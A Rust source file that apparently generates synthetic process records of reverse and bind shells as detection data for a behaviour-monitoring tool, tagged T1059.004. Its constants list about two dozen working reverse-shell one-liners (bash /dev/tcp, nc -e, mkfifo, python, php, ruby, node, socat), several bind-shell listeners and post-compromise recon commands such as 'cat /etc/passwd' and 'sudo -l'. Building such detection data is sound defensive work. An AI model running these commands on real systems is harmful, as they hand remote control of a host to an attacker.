//! Stories of shells, sockets and who holds them, composed by us: shells back and bound in many languages, beside the
//! legitimate work that looks most like them. Public text has none of it, and recordings have few languages.
//!
//! Whether a connection is there, whether a shell is interactive and what its descriptors are is drawn on both sides;
//! only their combination differs, as it does in the field. Some languages and tools are left out on purpose: they
//! are what examinations attack with.

use cordon_behavior::story::{Process, Relative, StdioKind, Story};

use super::draw::Draw;
use super::dress::{image, inbound, outbound, relative};

/// Programs that connect and hand their socket to a shell: image, then arguments with holes.
const BACK: [(&str, &str); 24] = [
    (
        "/usr/bin/python3.11",
        "python3|-c|import socket,os,pty;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn(\"/bin/sh\")",
    ),
    (
        "/usr/bin/python3",
        "python3|-c|import socket,subprocess,os;s=socket.create_connection((\"{h}\",{p}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])",
    ),
    ("/usr/bin/python3.9", "python3|{t}"),
    ("/bin/bash", "bash|-c|bash -i >& /dev/tcp/{a}/{p} 0>&1"),
    (
        "/bin/bash",
        "bash|-c|exec 5<>/dev/tcp/{a}/{p}; sh <&5 >&5 2>&5",
    ),
    (
        "/bin/bash",
        "/bin/bash|-c|0<&77-;exec 77<>/dev/tcp/{h}/{p};sh <&77 >&77 2>&77",
    ),
    ("/usr/bin/nc.traditional", "nc|-e|/bin/sh|{h}|{p}"),
    ("/usr/bin/ncat", "ncat|{h}|{p}|-e|/bin/bash"),
    ("/usr/bin/busybox", "busybox|nc|{a}|{p}|-e|/bin/sh"),
    (
        "/bin/sh",
        "sh|-c|rm -f {t};mkfifo {t};cat {t}|/bin/sh -i 2>&1|nc {h} {p} >{t}",
    ),
    (
        "/usr/bin/php8.2",
        "php|-r|$s=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\");",
    ),
    (
        "/usr/bin/php8.2",
        "php|-r|$s=fsockopen(\"{h}\",{p});$p=proc_open(\"sh\",array($s,$s,$s),$x);",
    ),
    ("/usr/bin/php", "php|{f}"),
    (
        "/usr/bin/ruby3.1",
        "ruby|-rsocket|-e|s=TCPSocket.new(\"{h}\",{p});exec \"/bin/sh -i <&%d >&%d 2>&%d\" % [s.fileno]*3",
    ),
    (
        "/usr/bin/ruby",
        "ruby|-rsocket|-e|spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"{h}\",{p}))",
    ),
    (
        "/usr/bin/lua5.4",
        "lua|-e|local s=require(\"socket\").tcp();s:connect(\"{h}\",{p});while true do local r=s:receive();local f=io.popen(r);s:send(f:read(\"*a\")) end",
    ),
    (
        "/usr/bin/node",
        "node|-e|const n=require(\"net\"),c=require(\"child_process\").spawn(\"/bin/sh\",[]);const s=n.connect({p},\"{h}\");s.pipe(c.stdin);c.stdout.pipe(s)",
    ),
    ("/usr/bin/socat", "socat|TCP:{h}:{p}|EXEC:/bin/sh,stderr"),
    (
        "/usr/bin/socat",
        "socat|exec:bash -li,pty,stderr,setsid|tcp:{a}:{p}",
    ),
    ("/usr/bin/java", "java|-jar|{t}"),
    ("/usr/bin/tclsh8.6", "tclsh|{t}"),
    ("{t}", "{t}"),
    ("{f}", "{f}|-c|{h}:{p}"),
    (
        "/usr/local/bin/{w}",
        "{w}|-e|connect {h} {p} dup 0 1 2 exec /bin/sh -i",
    ),
];
/// What is run first on a shell of that kind.
const LOOK: [&str; 12] = [
    "id",
    "whoami",
    "uname -a",
    "ls -la",
    "cat /etc/passwd",
    "ps aux",
    "hostname",
    "ip a",
    "sudo -l",
    "w",
    "env",
    "pwd",
];
const SHELLS: [(&str, &str); 7] = [
    ("/bin/sh", "sh|-i"),
    ("/bin/sh", "/bin/sh|-i"),
    ("/bin/bash", "bash|-i"),
    ("/bin/sh", "sh"),
    ("/bin/bash", "/bin/bash"),
    ("/usr/bin/dash", "/bin/sh|-i"),
    ("/bin/sh", "/bin/sh"),
];

/// A hostile story below the lineage `above`, with its technique and family.
pub fn hostile(above: Vec<Relative>, draw: &mut Draw) -> (Story, &'static str, &'static str) {
    match draw.below(10) {
        0..=4 => (shell_back(above, draw), "T1059.004", "shell-back"),
        5 | 6 => (caller(above, draw), "T1059.004", "shell-caller"),
        7 => (shell_on_pipes(above, draw), "T1059.004", "shell-relayed"),
        _ => (shell_bound(above, draw), "T1059.004", "shell-bound"),
    }
}

fn process(exe: &str, text: &str, draw: &mut Draw) -> Process {
    // One fill for image and arguments: they name the same file.
    let whole = draw.fill(&format!("{exe}|{text}"));
    let mut parts = whole.split('|').map(str::to_owned);
    let exe = parts.next().unwrap_or_default();
    let uid = *draw.one(&[0, 33, 1000, 1001, 998, 105, 65_534]);
    Process {
        exe,
        argv: parts.collect(),
        cwd: draw
            .pick(&[
                "/",
                "/root",
                "/tmp",
                "/home/ann",
                "/srv/app",
                "/var/www/html",
                "/dev/shm",
            ])
            .to_owned(),
        uid: Some(uid),
        euid: Some(if draw.chance(0.03) { 0 } else { uid }),
        tty: Some(draw.chance(0.3)),
        ..Process::default()
    }
}

fn as_relative(process: &Process) -> Relative {
    Relative {
        exe: process.exe.clone(),
        argv: process.argv.clone(),
        uid: process.uid,
    }
}

fn stdio(own: &mut Process, kinds: [StdioKind; 3]) {
    [own.stdin, own.stdout, own.stderr] = kinds;
}

fn quiet(draw: &mut Draw) -> [StdioKind; 3] {
    let kind = *draw.one(&[
        StdioKind::Tty,
        StdioKind::Pipe,
        StdioKind::Null,
        StdioKind::File,
        StdioKind::UnixSocket,
    ]);
    let out = if draw.chance(0.6) {
        kind
    } else {
        *draw.one(&[StdioKind::Pipe, StdioKind::Tty, StdioKind::Null])
    };
    [kind, out, out]
}

fn looks(draw: &mut Draw, chance: f64) -> Vec<Relative> {
    if !draw.chance(chance) {
        return Vec::new();
    }
    (0..=draw.below(5))
        .map(|_| {
            let text = draw.pick(&LOOK);
            let exe = image(text.split(' ').next().unwrap_or(text), draw);
            relative(&exe, text, draw)
        })
        .collect()
}

/// The shell itself, its descriptors on the socket that an ancestor opened.
fn shell_back(above: Vec<Relative>, draw: &mut Draw) -> Story {
    let (exe, text) = *draw.one(&SHELLS);
    let mut shell = process(exe, text, draw);
    let socket = StdioKind::Socket;
    let kinds = match draw.below(8) {
        0 => [
            socket,
            socket,
            *draw.one(&[StdioKind::Null, StdioKind::Pipe, StdioKind::Tty]),
        ],
        1 => [
            socket,
            *draw.one(&[StdioKind::Null, StdioKind::File]),
            socket,
        ],
        _ => [socket; 3],
    };
    stdio(&mut shell, kinds);
    let mut story = Story {
        children: looks(draw, 0.35),
        ..Story::default()
    };
    if draw.chance(0.85) {
        let (exe, text) = *draw.one(&BACK);
        story.ancestors.push(as_relative(&process(exe, text, draw)));
    }
    story.ancestors.extend(above);
    if draw.chance(0.9) {
        story
            .connections
            .push(outbound(draw.address(), draw.port()));
    }
    story.process = Some(shell);
    story
}

/// The program that connected, with the shell below it.
fn caller(above: Vec<Relative>, draw: &mut Draw) -> Story {
    let (exe, text) = *draw.one(&BACK);
    let mut own = process(exe, text, draw);
    let kinds = quiet(draw);
    stdio(&mut own, kinds);
    let (exe, text) = *draw.one(&SHELLS);
    let shell = as_relative(&process(exe, text, draw));
    let children = if draw.chance(0.8) {
        vec![shell]
    } else {
        looks(draw, 0.9)
    };
    let connections = if draw.chance(0.9) {
        vec![outbound(draw.address(), draw.port())]
    } else {
        Vec::new()
    };
    Story {
        process: Some(own),
        ancestors: above,
        children,
        connections,
        ..Story::default()
    }
}

/// A shell on a pipe or a fresh terminal whose maker relays it to the network.
fn shell_on_pipes(above: Vec<Relative>, draw: &mut Draw) -> Story {
    let (exe, text) = *draw.one(&SHELLS);
    let mut shell = process(exe, text, draw);
    let kind = *draw.one(&[StdioKind::Pipe, StdioKind::Tty, StdioKind::UnixSocket]);
    stdio(&mut shell, [kind; 3]);
    shell.tty = Some(kind == StdioKind::Tty);
    let (exe, text) = *draw.one(&BACK);
    let mut ancestors = vec![as_relative(&process(exe, text, draw))];
    ancestors.extend(above);
    let connections = vec![outbound(draw.address(), draw.port())];
    Story {
        process: Some(shell),
        ancestors,
        children: looks(draw, 0.4),
        connections,
        ..Story::default()
    }
}

/// A shell that waits for whoever calls.
fn shell_bound(above: Vec<Relative>, draw: &mut Draw) -> Story {
    let (exe, text) = *draw.one(&[
        ("/usr/bin/nc.traditional", "nc|-lvnp|{p}|-e|/bin/sh"),
        ("/usr/bin/ncat", "ncat|-l|{p}|-e|/bin/bash"),
        ("/usr/bin/busybox", "busybox|nc|-ll|-p|{p}|-e|/bin/sh"),
        ("/usr/bin/socat", "socat|TCP-LISTEN:{p},reuseaddr,fork|EXEC:/bin/sh,stderr"),
        ("/usr/bin/python3", "python3|-c|import socket,os;s=socket.socket();s.bind((\"0.0.0.0\",{p}));s.listen(1);c,_=s.accept();[os.dup2(c.fileno(),i) for i in range(3)];os.system(\"/bin/sh\")"),
        ("/usr/bin/php8.2", "php|-r|$s=socket_create_listen({p});$c=socket_accept($s);while($l=socket_read($c,999))socket_write($c,shell_exec($l));"),
        ("/usr/bin/ruby", "ruby|-rsocket|-e|c=TCPServer.new({p}).accept;c.print `#{c.gets}` while true"),
        ("{t}", "{t}|-l|{p}"),
    ]);
    let listener = process(exe, text, draw);
    let connections = vec![inbound(draw.address(), draw.between(1024, 65_000) as u16)];
    if draw.chance(0.4) {
        let mut own = listener;
        let kinds = quiet(draw);
        stdio(&mut own, kinds);
        let children = vec![relative(
            "/bin/sh",
            draw.pick(&["/bin/sh", "sh -i", "sh -c id"]),
            draw,
        )];
        return Story {
            process: Some(own),
            ancestors: above,
            children,
            connections,
            ..Story::default()
        };
    }
    let (exe, text) = *draw.one(&SHELLS);
    let mut shell = process(exe, text, draw);
    stdio(&mut shell, [StdioKind::Socket; 3]);
    let mut ancestors = vec![as_relative(&listener)];
    ancestors.extend(above);
    Story {
        process: Some(shell),
        ancestors,
        children: looks(draw, 0.4),
        connections,
        ..Story::default()
    }
}
